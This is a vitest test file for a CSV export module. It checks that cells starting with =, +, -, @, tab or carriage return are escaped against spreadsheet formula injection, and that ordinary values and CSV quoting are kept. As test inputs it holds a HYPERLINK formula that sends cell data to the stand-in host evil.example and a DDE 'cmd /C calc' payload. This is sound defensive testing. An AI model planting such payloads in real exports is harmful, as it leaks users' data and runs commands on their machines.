import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLines, csvQuoted } from './csv.js';

describe('csvCell', () => {
  it('neutralises text that a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"Chihuahua")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Chihuahua"")"`,
    );
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}cmd|' /C calc'!A0`)).toMatch(new RegExp(`^"?'\\${start}cmd`));
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
  });

  it('keeps numbers, ordinary text, quoting and empty cells', () => {
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(2623)).toBe('2623');
    expect(csvCell('Ciudad Juárez')).toBe('Ciudad Juárez');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
  });

  it('writes what csv-stringify writes, with the formula guard, for every kind of cell', () => {
    const rows = [
      ['08037', 'Juárez', 2623, -3.5, null, true, false, 1e-7, 'a, "b"', 'line\nbreak', 'tab\tin', '', 0],
      ['=1+1', '+x', '-y', '@z', 'plain', 12345678901234, 0.1 + 0.2, 'ñandú', 'x"y', 'cr\rlf'],
    ];
    const reference = (crlf: boolean) =>
      stringify(rows, {
        record_delimiter: crlf ? 'windows' : 'unix',
        // With CRLF records, csv-stringify leaves a bare line feed unquoted; a spreadsheet would break the
        // row there, so Marco quotes it whatever the line ends.
        quoted_match: /[\r\n]/,
        cast: {
          string: (t) => (/^[=+\-@\t\r]/.test(t) ? `'${t}` : t),
          boolean: (b) => String(b),
          number: (n) => String(n),
        },
      });
    expect(csvLines(rows)).toBe(reference(false));
    expect(csvLines(rows, { crlf: true })).toBe(reference(true));
  });
});

describe('csvQuoted', () => {
  it('quotes what CSV needs quoted and keeps a formula-like text as it is, for a file a program reads back', () => {
    expect(csvQuoted('=1+1')).toBe('=1+1');
    expect(csvQuoted('-y')).toBe('-y');
    expect(csvQuoted('Synthetic opioids, excl. methadone (T40.4)')).toBe(
      '"Synthetic opioids, excl. methadone (T40.4)"',
    );
    expect(csvQuoted('x"y')).toBe('"x""y"');
    expect(csvQuoted('line\nbreak')).toBe('"line\nbreak"');
    expect(csvQuoted(null)).toBe('');
    expect(csvQuoted(undefined)).toBe('');
  });
});
